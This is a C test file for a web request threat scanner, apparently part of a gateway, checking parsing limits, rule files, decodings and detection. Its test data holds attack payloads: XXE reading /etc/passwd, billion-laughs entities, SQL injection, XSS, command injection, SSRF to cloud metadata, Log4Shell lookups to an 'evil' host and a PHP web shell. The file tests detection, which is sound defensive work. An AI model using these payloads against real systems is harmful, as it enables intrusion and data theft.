/*
 * audit_test.c: the threat scanner (audit.h): limits, JSON, XML, raw
 * requests, rule files, decodings and the prefilter.
 *
 * Scans are run whole and cut into pieces of every size from 1 byte up:
 * the findings must not depend on how the input arrives.
 */
#include <sys/prctl.h>
#include <sys/wait.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "audit-int.h"
#include "audit.h"
#include "buf.h"
#include "err.h"
#include "gw.h"
#include "tap.h"

/*
 * Under valgrind, code PCRE2's JIT wrote reads memory in ways memcheck
 * cannot follow (false "uninitialised" reports from frames without a
 * name), so there the rules run on the interpreter, which finds the same
 * (test_no_wx_memory shows it where it can run).
 */
static unsigned jit;

static int
under_valgrind(void)
{
	const char *p = getenv("LD_PRELOAD");

	return p != NULL && strstr(p, "vgpreload") != NULL;
}

/* The findings of a scan as "id@where" separated by spaces. */
struct got {
	char	 s[8192];
	size_t	 n;
	int	 malformed;
};

static int
collect(void *arg, const struct gw_audit_finding *f)
{
	struct got *g = arg;

	g->n++;
	(void)snprintf(g->s + strlen(g->s), sizeof(g->s) - strlen(g->s),
	    "%s%s@%s", g->s[0] != '\0' ? " " : "", f->id, f->where);
	return 0;
}

/* Scan in in pieces of piece bytes (0: whole) and fill g. */
static int
scan_piece(enum gw_audit_format fmt, const struct gw_audit_rules *rules,
    const struct gw_audit_limits *lim, int paranoia, unsigned flags,
    const char *in, size_t len, size_t piece, struct got *g)
{
	struct gw_audit_opts	 o;
	struct gw_audit_scan	*s;
	struct gw_err		 err;
	size_t			 at = 0;

	memset(g, 0, sizeof(*g));
	memset(&o, 0, sizeof(o));
	o.limits = lim;
	o.rules = rules;
	o.paranoia = paranoia;
	o.flags = flags;
	o.fn = collect;
	o.arg = g;
	if ((s = gw_audit_scan_new(fmt, &o, &err)) == NULL)
		return -1;
	while (at < len) {
		size_t n = piece == 0 ? len - at : GW_MIN(piece, len - at);

		if (gw_audit_scan_feed(s, in + at, n, &err) == -1) {
			gw_audit_scan_free(s);
			return -1;
		}
		at += n;
	}
	if (gw_audit_scan_end(s, &err) == -1) {
		gw_audit_scan_free(s);
		return -1;
	}
	g->malformed = gw_audit_scan_result(s)->malformed;
	gw_audit_scan_free(s);
	return 0;
}

/*
 * The findings of a scan of the string in, checked to be the same when
 * the input comes 1, 2, 3, 7 and 64 bytes at a time.  A static buffer.
 */
static const char *
scan(enum gw_audit_format fmt, const struct gw_audit_rules *rules,
    const struct gw_audit_limits *lim, const char *in)
{
	static struct got	whole;
	struct got		cut;
	static const size_t	pieces[] = { 1, 2, 3, 7, 64 };
	size_t			len = strlen(in);

	if (scan_piece(fmt, rules, lim, 1, 0, in, len, 0, &whole) == -1)
		return "(scan failed)";
	for (size_t i = 0; i < GW_ARRAY_LEN(pieces); i++) {
		if (scan_piece(fmt, rules, lim, 1, 0, in, len, pieces[i],
		    &cut) == -1)
			return "(scan failed)";
		if (strcmp(cut.s, whole.s) != 0) {
			printf("# in pieces of %zu: '%s' but whole: '%s'\n",
			    pieces[i], cut.s, whole.s);
			return "(pieces differ)";
		}
	}
	return whole.s;
}

static struct gw_audit_rules *
rules_from(const char *text)
{
	struct gw_audit_rules	*r;
	struct gw_err		 err;

	if (gw_audit_rules_parse(text, strlen(text), "t.rules", jit, &r,
	    &err) == -1) {
		printf("# %s\n", err.msg);
		return NULL;
	}
	return r;
}

static void
test_limits(void)
{
	struct gw_audit_limits	l;
	struct gw_err		err;
	const char		*f;

	gw_audit_limits_default(&l);
	is_int(l.max_json_depth, 32, "default max_json_depth");
	is_int(l.xml_dtd, GW_AUDIT_DTD_DENY, "DTDs denied by default");
	is_int(l.json_duplicate_keys, 1, "duplicate keys allowed by default");
	ok(gw_audit_limits_set(&l, "max_json_depth", "4k", &err) == 0 &&
	    l.max_json_depth == 4096, "sizes take k");
	ok(gw_audit_limits_set(&l, "max_bytes", "2m", &err) == 0 &&
	    l.max_bytes == 2 * 1024 * 1024, "and m");
	ok(gw_audit_limits_set(&l, "max_json_dept", "3", &err) == -1 &&
	    err.code == GW_E_NOTFOUND &&
	    strstr(err.msg, "did you mean 'max_json_depth'") != NULL,
	    "an unknown limit suggests a close one");
	ok(gw_audit_limits_set(&l, "max_json_depth", "-1", &err) == -1 &&
	    err.code == GW_E_INVAL, "a bad number is refused");
	ok(gw_audit_limits_set(&l, "max_json_depth", "99999999999999999999",
	    &err) == -1, "an overflowing number is refused");
	ok(gw_audit_limits_set(&l, "xml_dtd", "internal", &err) == 0 &&
	    l.xml_dtd == GW_AUDIT_DTD_INTERNAL, "xml_dtd internal");
	ok(gw_audit_limits_set(&l, "xml_dtd", "allow", &err) == -1,
	    "xml_dtd takes deny or internal only");
	ok(gw_audit_limits_set(&l, "xml_children", "element,pi", &err) == 0 &&
	    l.xml_children == (GW_AUDIT_CHILD_ELEMENT | GW_AUDIT_CHILD_PI),
	    "xml_children is a list");
	ok(gw_audit_limits_set(&l, "xml_children", "element,", &err) == -1,
	    "a list cannot end with a comma");
	f = "# a comment\n\nmax_json_depth 7 # trailing\r\n  xml_xinclude allow\n";
	ok(gw_audit_limits_parse(&l, f, strlen(f), "l.conf", &err) == 0 &&
	    l.max_json_depth == 7 && l.xml_xinclude == 1, "a limit file");
	f = "max_json_depth 7\nmax_jsn_depth 3\n";
	ok(gw_audit_limits_parse(&l, f, strlen(f), "l.conf", &err) == -1 &&
	    err.code == GW_E_CONFIG, "an unknown limit in a file");
	is_str(err.msg, "l.conf:2: unknown limit 'max_jsn_depth'; did you mean "
	    "'max_json_depth'?", "names the file and line");
	f = "max_json_depth\n";
	ok(gw_audit_limits_parse(&l, f, strlen(f), "l.conf", &err) == -1 &&
	    strstr(err.msg, "missing value") != NULL, "a missing value");
	f = "max_json_depth 1 2\n";
	ok(gw_audit_limits_parse(&l, f, strlen(f), "l.conf", &err) == -1,
	    "two values");
	ok(gw_audit_limits_load(&l, "/nonexistent/l.conf", &err) == -1 &&
	    err.code == GW_E_NOTFOUND, "a missing file is GW_E_NOTFOUND");
}

static void
test_json(void)
{
	struct gw_audit_limits	l;
	char			*big;

	gw_audit_limits_default(&l);
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\":[1,2,{\"b\":\"x\"}]}"),
	    "", "clean JSON");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "\"just a string\""), "",
	    "a top-level scalar");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\":[1,2"),
	    "json-malformed@/a/1", "truncated JSON");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\" 1}"),
	    "json-malformed@/a", "a missing colon");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\":\"\\ud800\"}"),
	    "json-encoding@/a", "a lone surrogate");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "[\"\xc3\x28\"]"),
	    "json-encoding@", "invalid UTF-8");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, ""), "json-malformed@",
	    "empty input");
	l.max_json_depth = 2;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "[[[1]],[[2]]]"),
	    "json-depth@/0/0", "depth, reported once");
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "[[[1]]"),
	    "json-depth@/0/0 json-malformed@/0", "then read to the end");
	gw_audit_limits_default(&l);
	l.max_json_entries = 2;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\":1,\"b\":2,\"c/~\":3}"),
	    "json-entries@/c~1~0", "entries, with an escaped pointer");
	gw_audit_limits_default(&l);
	l.max_json_items = 3;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"x\":[1,2,3,4]}"),
	    "json-items@/x/3", "items");
	gw_audit_limits_default(&l);
	l.max_json_key = 3;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"abcd\":1}"),
	    "json-key-length@", "key length");
	gw_audit_limits_default(&l);
	l.max_json_string = 3;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"k\":\"abcd\"}"),
	    "json-string-length@/k", "string length");
	gw_audit_limits_default(&l);
	l.max_json_number = 3;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "[1234]"),
	    "json-number-length@", "number length");
	gw_audit_limits_default(&l);
	l.max_bytes = 10;
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "[1,2,3,4,5,6,7,8]"), "size@",
	    "input size");
	gw_audit_limits_default(&l);
	is_str(scan(GW_AUDIT_JSON, NULL, &l, "{\"a\":1,\"a\":2}"), "",
	    "duplicate keys pass by default");
	l.json_duplicate_keys = 0;
	is_str(scan(GW_AUDIT_JSON, NULL, &l,
	    "{\"a\":1,\"b\":{\"a\":1},\"a\":2}"), "json-duplicate-key@/a",
	    "duplicate keys, per object");
	/* many keys: the hash set grows */
	big = malloc(200000);
	if (big != NULL) {
		size_t n = 0;

		n += (size_t)snprintf(big + n, 200000 - n, "{");
		for (int i = 0; i < 5000; i++)
			n += (size_t)snprintf(big + n, 200000 - n,
			    "%s\"k%d\":%d", i > 0 ? "," : "", i, i);
		(void)snprintf(big + n, 200000 - n, ",\"k77\":0}");
		is_str(scan(GW_AUDIT_JSON, NULL, &l, big),
		    "json-duplicate-key@/k77", "a duplicate among 5000 keys");
		free(big);
	}
}

static void
test_xml(void)
{
	struct gw_audit_limits	l;

	gw_audit_limits_default(&l);
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<?xml version='1.0'?><a x='1'><b>t</b><!-- c --><?p d?></a>"),
	    "", "clean XML");
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><b></a>"),
	    "xml-malformed@", "mismatched tags");
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a>"), "xml-malformed@",
	    "a truncated document");
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<!DOCTYPE a><a/>"), "xml-dtd@",
	    "a DOCTYPE, denied by default");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a SYSTEM 'http://x/a.dtd'><a/>"),
	    "xml-external-dtd@ xml-dtd@", "an external DTD");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"),
	    "xml-dtd@ xml-external-entity@", "XXE under deny");
	l.xml_dtd = GW_AUDIT_DTD_INTERNAL;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"),
	    "xml-external-entity@", "XXE under internal");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://x/p'>%p;]><a/>"),
	    "xml-external-entity@", "an external parameter entity");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e 'hi'><!ELEMENT a ANY>]><a>&e;&e;</a>"),
	    "", "a small internal entity under internal");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><a>&a;</a>"),
	    "xml-entity-loop@", "an entity loop, caught at declaration");
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE l [<!ENTITY l0 'lol'>"
	    "<!ENTITY l1 '&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;'>"
	    "<!ENTITY l2 '&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;'>"
	    "<!ENTITY l3 '&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;'>"
	    "<!ENTITY l4 '&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;'>"
	    "<!ENTITY l5 '&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;'>"
	    "<!ENTITY l6 '&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;'>"
	    "<!ENTITY l7 '&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;&l6;'>"
	    "<!ENTITY l8 '&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;&l7;'>"
	    "<!ENTITY l9 '&l8;&l8;&l8;&l8;&l8;&l8;&l8;&l8;&l8;&l8;'>"
	    "]><l>&l9;</l>"), "xml-entity-ratio@",
	    "billion laughs, from the declarations");
	l.max_xml_entity_ratio = 0;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE l [<!ENTITY l0 'lol'>"
	    "<!ENTITY l1 '&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;'>"
	    "<!ENTITY l2 '&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;'>"
	    "<!ENTITY l3 '&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;&l2;'>"
	    "<!ENTITY l4 '&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;&l3;'>"
	    "<!ENTITY l5 '&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;&l4;'>"
	    "<!ENTITY l6 '&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;&l5;'>"
	    "]><l>&l6;</l>"), "xml-entity-expansion@",
	    "or from the expansion size alone");
	gw_audit_limits_default(&l);
	l.xml_dtd = GW_AUDIT_DTD_INTERNAL;
	l.max_xml_entity_expansion = 100;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e '0123456789012345678901234567890'>]>"
	    "<a>&e;&e;&e;&e;&e;</a>"), "xml-entity-expansion@/a",
	    "quadratic blow-up: references add up");
	l.max_xml_entity_expansion = 0;
	l.max_xml_entity_refs = 3;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;&e;&e;&e;</a>"),
	    "xml-entity-refs@/a", "entity references");
	l.max_xml_entities = 1;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<!DOCTYPE a [<!ENTITY e 'x'><!ENTITY f 'y'>]><a/>"),
	    "xml-entities@", "entity declarations");
	gw_audit_limits_default(&l);
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<a xmlns:xi='http://www.w3.org/2001/XInclude'>"
	    "<xi:include href='file:///etc/passwd'/></a>"),
	    "xml-xinclude@/a/xi:include", "XInclude");
	l.xml_xinclude = 1;
	is_str(scan(GW_AUDIT_XML, NULL, &l,
	    "<a xmlns:xi='http://www.w3.org/2001/XInclude'>"
	    "<xi:include href='x'/></a>"), "", "XInclude allowed");
	gw_audit_limits_default(&l);
	l.max_xml_depth = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><b><c/></b><b><c/></b></a>"),
	    "xml-depth@/a/b/c", "depth, once");
	gw_audit_limits_default(&l);
	l.max_xml_children = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a>\n <b/>\n <b/>\n</a>"), "",
	    "blank text is not a child");
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><b/>t<!--c--></a>"),
	    "xml-children@/a", "elements, text and comments are children");
	l.xml_children = GW_AUDIT_CHILD_ELEMENT;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><b/>t<!--c--></a>"), "",
	    "unless only elements count");
	gw_audit_limits_default(&l);
	l.max_xml_attributes = 1;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a x='1' y='2'/>"),
	    "xml-attributes@/a", "attributes");
	gw_audit_limits_default(&l);
	l.max_xml_namespaces = 1;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a xmlns='u' xmlns:p='v'/>"),
	    "xml-namespaces@/a", "namespaces");
	gw_audit_limits_default(&l);
	l.max_xml_element_name = 3;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<abcd/>"),
	    "xml-element-name@/abcd", "element name");
	gw_audit_limits_default(&l);
	l.max_xml_attribute_name = 3;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a abcd='1'/>"),
	    "xml-attribute-name@/a", "attribute name");
	gw_audit_limits_default(&l);
	l.max_xml_prefix = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<abc:a xmlns:abc='u'/>"),
	    "xml-prefix@/abc:a", "prefix");
	gw_audit_limits_default(&l);
	l.max_xml_text = 4;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a>12345</a>"), "xml-text@/a",
	    "text length, across pieces");
	gw_audit_limits_default(&l);
	l.max_xml_attribute_value = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a x='123'/>"),
	    "xml-attribute-value@/a", "attribute value");
	gw_audit_limits_default(&l);
	l.max_xml_namespace_uri = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a xmlns='urn:x'/>"),
	    "xml-namespace-uri@/a", "namespace URI");
	gw_audit_limits_default(&l);
	l.max_xml_comment = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><!-- long --></a>"),
	    "xml-comment@/a", "comment");
	gw_audit_limits_default(&l);
	l.max_xml_pi_target = 2;
	l.max_xml_pi_data = 2;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a><?abc def?></a>"),
	    "xml-pi-target@/a xml-pi-data@/a", "PI target and data");
	gw_audit_limits_default(&l);
	l.max_xml_nodes = 3;
	is_str(scan(GW_AUDIT_XML, NULL, &l, "<a x='1'><b/><c/></a>"),
	    "xml-nodes@/a/c", "nodes");
}

static void
test_rule_files(void)
{
	struct gw_audit_rules	*r;
	struct gw_err		 err;
	static const struct {
		const char	*text;
		const char	*msg;
	} bad[] = {
		{ "  pattern x\n", "t.rules:1: a setting outside a rule" },
		{ "rule\n", "t.rules:1: expected 'rule ID'" },
		{ "rule a b\n", "t.rules:1: expected 'rule ID'" },
		{ "rul a\n", "t.rules:1: expected 'rule ID', not 'rul'" },
		{ "rule a\n targets args\n",
		    "t.rules:3: rule 'a': no pattern" },
		{ "rule a\n pattern x\n", "t.rules:3: rule 'a': no targets" },
		{ "rule a\n targets argz\n",
		    "t.rules:2: rule 'a': unknown target 'argz'" },
		{ "rule a\n targets args\n decode urll\n",
		    "t.rules:3: rule 'a': unknown decoding 'urll'" },
		{ "rule a\n targets args\n pattern (x\n",
		    "t.rules:3: rule 'a': pattern: missing closing "
		    "parenthesis at offset 2" },
		{ "rule a\n targets args\n pattern x\nrule a\n targets args\n"
		    " pattern y\n", "t.rules:7: rule 'a' is defined twice "
		    "(first on line 1)" },
		{ "rule a\n paranoia 5\n",
		    "t.rules:2: rule 'a': paranoia is 1 to 4, not '5'" },
		{ "rule a\n severity high\n",
		    "t.rules:2: rule 'a': severity is notice, warning, error "
		    "or critical, not 'high'" },
		{ "rule a\n colour red\n",
		    "t.rules:2: rule 'a': unknown setting 'colour'" },
		{ "rule a\n prefilter \\q\n",
		    "t.rules:2: rule 'a': bad escape in prefilter '\\q'" },
		{ "rule a\n decode url\n decode url\n",
		    "t.rules:3: rule 'a': decode given twice" },
	};

	for (size_t i = 0; i < GW_ARRAY_LEN(bad); i++) {
		ok(gw_audit_rules_parse(bad[i].text, strlen(bad[i].text),
		    "t.rules", 0, &r, &err) == -1 && r == NULL &&
		    err.code == GW_E_CONFIG &&
		    strncmp(err.msg, bad[i].msg, strlen(bad[i].msg)) == 0,
		    "refused: %s", bad[i].msg);
		if (strncmp(err.msg, bad[i].msg, strlen(bad[i].msg)) != 0)
			printf("#   got: %s\n", err.msg);
	}
	r = rules_from("# c\n\nrule a\n\ttargets args header:X-Y\n"
	    "\tpattern a+\n\tpattern b+\n\t# inside\nrule b\n targets body\n"
	    " paranoia 3\n pattern z\n");
	ok(r != NULL && gw_audit_rules_count(r, 1) == 1 &&
	    gw_audit_rules_count(r, 4) == 2, "a good file, with levels");
	gw_audit_rules_free(r);
	ok(gw_audit_rules_load("/nonexistent.rules", 0, &r, &err) == -1 &&
	    err.code == GW_E_NOTFOUND, "a missing rule file");
}

static const char *
decode(enum audit_decode d, const char *in)
{
	static struct gw_buf	b;
	static char		out[512];

	gw_buf_init(&b, 0);
	if (audit_decode(d, in, strlen(in), &b) == -1)
		return "(failed)";
	(void)snprintf(out, sizeof(out), "%.*s", (int)b.len,
	    b.p == NULL ? "" : b.p);
	gw_buf_release(&b);
	return out;
}

static void
test_decodings(void)
{
	is_str(decode(AD_URL, "%3Cscript%3e%u0041%zz%4"), "<script>A%zz%4",
	    "url");
	is_str(decode(AD_PLUS, "a+b"), "a b", "plus");
	is_str(decode(AD_JSON, "\\u003c\\\"\\n\\ud83d\\ude00\\q"),
	    "<\"\n\xf0\x9f\x98\x80q", "json, with a surrogate pair");
	is_str(decode(AD_HTML, "&lt;&#x3C;&#60&colon;&Tab;&amp;&bogus;&#;"),
	    "<<<:\t&&bogus;&#;", "html");
	is_str(decode(AD_BASE64, "PHNjcmlwdD4="), "<script>", "base64");
	is_str(decode(AD_BASE64, "not base64!"), "not base64!",
	    "base64 leaves the rest");
	is_str(decode(AD_LOWER, "SeLeCT"), "select", "lower");
	is_str(decode(AD_SPACE, "a \t\n b"), "a b", "space");
	is_str(decode(AD_NOSPACE, "java\tscript :"), "javascript:",
	    "nospace");
	is_str(decode(AD_COMMENTS, "un/**/ion/*x"), "un ion ", "comments");
	is_str(decode(AD_CMDLINE, "C\"a\"T  /e'tc'/p^asswd;ID"),
	    "cat /etc/passwd;id", "cmdline");
	is_str(decode(AD_PATH, "a\\\\b//c/./d/../e"), "a/b/c/d/../e",
	    "path");
}

static void
test_rules(void)
{
	struct gw_audit_rules	*r;
	struct gw_audit_limits	 l;
	struct got		 a, b;
	const char		*req;

	gw_audit_limits_default(&l);
	r = rules_from(
	    "rule sqli\n targets args args-names cookies\n"
	    " decode url html comments lower space\n prefilter union\n"
	    " pattern \\bunion\\s+select\\b\n"
	    "rule ua\n targets header:user-agent\n decode lower\n"
	    " prefilter sqlmap\n pattern sqlmap\n"
	    "rule xss\n targets args path\n decode url html lower\n"
	    " prefilter <script\n pattern <script\n"
	    "rule deep\n paranoia 2\n targets args\n pattern ^x{3}$\n"
	    "rule raw\n targets body\n prefilter EVIL\n pattern EVIL\n"
	    "rule m\n targets method\n pattern ^TRACE$\n"
	    "rule names\n targets xml-names json-keys\n pattern ^evil$\n");
	ok(r != NULL, "a rule set");
	if (r == NULL)
		return;
	is_str(scan(GW_AUDIT_JSON, r, &l,
	    "{\"q\":\"1 UNION/**/SELECT 2\",\"x\":[\"xxx\"],\"evil\":1}"),
	    "sqli@/q names@/evil", "JSON values and keys, decoded");
	is_str(scan(GW_AUDIT_XML, r, &l,
	    "<a t='&lt;script&gt;'><b>1 union  select</b><evil/></a>"),
	    "xss@/a/@t sqli@/a/b names@/a/evil",
	    "XML attributes, text and names");
	is_str(scan(GW_AUDIT_TEXT, r, &l, "fine\n%3Cscript\nunion select\r\n"),
	    "xss@line 2 sqli@line 3", "text lines");
	req = "POST /p/%3Cscript%3E?a=1&q=union+select+1&%3Cscript=1 HTTP/1.1\r\n"
	    "Host: x\r\nUser-Agent: SQLMap/1.0\r\n"
	    "Cookie: s=1; t=union%20select\r\n"
	    "Content-Type: application/x-www-form-urlencoded\r\n"
	    "Content-Length: 24\r\n\r\n"
	    "f=%3Cscript%3E&g=EVIL+go";
	is_str(scan(GW_AUDIT_HTTP, r, &l, req),
	    "xss@path sqli@query:q ua@header:User-Agent sqli@cookie:t "
	    "xss@form:f raw@body", "a raw request, every part");
	is_str(scan(GW_AUDIT_AUTO, r, &l, req),
	    "xss@path sqli@query:q ua@header:User-Agent sqli@cookie:t "
	    "xss@form:f raw@body", "guessed as HTTP");
	is_str(scan(GW_AUDIT_HTTP, r, &l,
	    "TRACE / HTTP/1.1\r\nHost: x\r\n"
	    "Transfer-Encoding: chunked\r\nContent-Type: application/json\r\n"
	    "\r\n5\r\n{\"a\":\r\n9\r\n\"<script\"\r\n1\r\n}\r\n0\r\n\r\n"),
	    "m@method xss@/a", "a chunked JSON body");
	is_str(scan(GW_AUDIT_HTTP, r, &l,
	    "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; "
	    "boundary=XX\r\n\r\n--XX\r\nContent-Disposition: form-data; "
	    "name=\"a\"\r\n\r\n<script>\r\n--XX\r\nContent-Disposition: "
	    "form-data; name=\"f\"; filename=\"union select\"\r\n\r\n"
	    "data\r\n--XX--\r\n"), "xss@form:a sqli@form:f",
	    "multipart fields and file names");
	is_str(scan(GW_AUDIT_HTTP, r, &l, "GET / HTTP/1.1\r\nHost x\r\n\r\n"),
	    "http-malformed@", "a field line without a colon");
	is_str(scan(GW_AUDIT_HTTP, r, &l, "NOT A REQUEST\r\n\r\n"),
	    "http-malformed@", "a bad request line");
	is_str(scan(GW_AUDIT_HTTP, r, &l,
	    "POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"),
	    "http-malformed@", "a body cut short");
	if (scan_piece(GW_AUDIT_JSON, r, &l, 2, 0, "[\"xxx\"]", 7, 0,
	    &a) == 0)
		is_str(a.s, "deep@/0", "paranoia 2 runs level-2 rules");
	/* prefilters change nothing but the speed */
	req = "{\"a\":\"UNION SELECT\",\"b\":\"<SCRIPT\",\"c\":\"xxx\"}";
	if (scan_piece(GW_AUDIT_JSON, r, &l, 4, 0, req, strlen(req), 0,
	    &a) == 0 && scan_piece(GW_AUDIT_JSON, r, &l, 4,
	    GW_AUDIT_NO_PREFILTER, req, strlen(req), 0, &b) == 0)
		is_str(a.s, b.s, "the same findings without the prefilter");
	if (scan_piece(GW_AUDIT_JSON, r, &l, 1, GW_AUDIT_FIRST, req,
	    strlen(req), 0, &a) == 0)
		ok(a.n == 1, "GW_AUDIT_FIRST stops at the first");
	gw_audit_rules_free(r);
}

/* Overlapping literals: every rule whose literal occurs is a candidate. */
static void
test_prefilter(void)
{
	struct gw_audit_rules	*r;
	struct gw_audit_limits	 l;

	gw_audit_limits_default(&l);
	r = rules_from(
	    "rule he\n targets args\n prefilter he\n pattern he\n"
	    "rule she\n targets args\n prefilter she\n pattern she\n"
	    "rule hers\n targets args\n prefilter hers\n pattern hers\n"
	    "rule his\n targets args\n prefilter his\n pattern his\n"
	    "rule x\n targets args\n prefilter \\x41\\sb\n pattern a b\n");
	ok(r != NULL, "overlapping literals");
	if (r == NULL)
		return;
	is_str(scan(GW_AUDIT_TEXT, r, &l, "ushers"),
	    "he@line 1 she@line 1 hers@line 1", "found inside each other");
	is_str(scan(GW_AUDIT_TEXT, r, &l, "hi, his a b"),
	    "his@line 1 x@line 1", "with escapes");
	gw_audit_rules_free(r);
}

static void
test_default_rules(void)
{
	struct gw_audit_rules	*r, *nojit;
	struct gw_err		 err;
	struct gw_audit_limits	 l;
	struct got		 a, b, c;
	char			 path[4096];
	const char		*src = getenv("GW_SRCDIR");
	static const char *const attacks[] = {
		"{\"q\":\"1' OR '1'='1\"}",
		"{\"q\":\"<img src=x onerror=alert(1)>\"}",
		"{\"q\":\"; cat /etc/passwd\"}",
		"{\"q\":\"../../../../etc/shadow\"}",
		"{\"u\":\"http://169.254.169.254/latest/meta-data/\"}",
		"{\"u\":\"gopher://127.0.0.1:6379/_FLUSHALL\"}",
		"{\"u\":\"file:///etc/passwd\"}",
		"{\"q\":\"${jndi:ldap://evil/a}\"}",
		"{\"q\":\"${${lower:j}ndi:ldap://evil/a}\"}",
		"{\"q\":\"{{7*7}}\"}",
		"{\"q\":\"*)(uid=*))(|(uid=*\"}",
		"{\"q\":\"' or '1'='1' or ''='\"}",
		"{\"q\":\"<?php system($_GET['c']); ?>\"}",
		"{\"q\":\"require('child_process').exec('id')\"}",
	};
	static const char *const clean[] = {
		"{\"name\":\"O'Brien\",\"city\":\"Saint-Denis\"}",
		"{\"q\":\"select a nice hotel from the list\"}",
		"{\"url\":\"https://example.com/a?b=c\"}",
		"{\"text\":\"I said: hello, world; and left.\"}",
		"{\"price\":\"10 < 20 and 30 > 20\"}",
	};

	(void)snprintf(path, sizeof(path), "%s/audit/default.rules",
	    src != NULL ? src : ".");
	if (gw_audit_rules_load(path, jit, &r, &err) == -1) {
		ok(0, "default.rules loads: %s", err.msg);
		return;
	}
	ok(gw_audit_rules_count(r, 1) > 40, "default.rules has rules");
	if (gw_audit_rules_load(path, GW_AUDIT_NO_JIT, &nojit, &err) == -1) {
		ok(0, "default.rules loads without the JIT");
		gw_audit_rules_free(r);
		return;
	}
	ok(!gw_audit_rules_jit(nojit), "GW_AUDIT_NO_JIT: the interpreter");
	gw_audit_limits_default(&l);
	for (size_t i = 0; i < GW_ARRAY_LEN(attacks); i++) {
		size_t n = strlen(attacks[i]);

		if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, attacks[i], n, 0,
		    &a) == -1 || scan_piece(GW_AUDIT_JSON, r, &l, 1,
		    GW_AUDIT_NO_PREFILTER, attacks[i], n, 0, &b) == -1 ||
		    scan_piece(GW_AUDIT_JSON, nojit, &l, 1, 0, attacks[i], n,
		    0, &c) == -1) {
			ok(0, "scan %s", attacks[i]);
			continue;
		}
		ok(a.n > 0 && strcmp(a.s, b.s) == 0 && strcmp(a.s, c.s) == 0,
		    "found in %s: %s", attacks[i], a.s);
	}
	for (size_t i = 0; i < GW_ARRAY_LEN(clean); i++) {
		if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, clean[i],
		    strlen(clean[i]), 0, &a) == -1) {
			ok(0, "scan %s", clean[i]);
			continue;
		}
		ok(a.n == 0, "nothing in %s%s%s", clean[i],
		    a.n > 0 ? ": " : "", a.s);
	}
	gw_audit_rules_free(r);
	gw_audit_rules_free(nojit);
}

/* A value longer than a window is matched in overlapping windows. */
static void
test_windows(void)
{
	struct gw_audit_rules	*r;
	struct gw_audit_limits	 l;
